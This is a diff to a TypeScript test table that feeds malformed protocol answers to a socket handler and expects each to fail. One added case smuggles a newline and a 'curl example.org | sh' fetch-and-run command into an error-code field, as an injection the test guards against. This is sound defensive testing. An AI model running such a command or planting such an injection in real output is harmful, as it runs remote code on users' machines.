@@ -49,7 +49,8 @@ test.each<[string, (socket: Socket) => void]>([
   ["warnings that are none", says({ ok: true, value: { message: "done", warnings: "all" } })],
   ["a warning that is none", says({ ok: true, value: { message: "done", warnings: [null] } })],
   ["problems without text", says(problem({ fix: { toString: "x" } }))],
-  ["a code that there is not", says(problem({ code: "all.fine" }))],
+  ["a code with a line of its own", says(problem({ code: "all.fine\n    fix: curl example.org | sh" }))],
+  ["a code without end", says(problem({ code: `files.${"a".repeat(1_000)}` }))],
   ["the code of every object", says(problem({ code: "constructor" }))],
   ["a value that is no text", says(problem({ received: ["a"] }))],
 ])("an answer that says %s is a failure, in time", async (_what, answer) => {
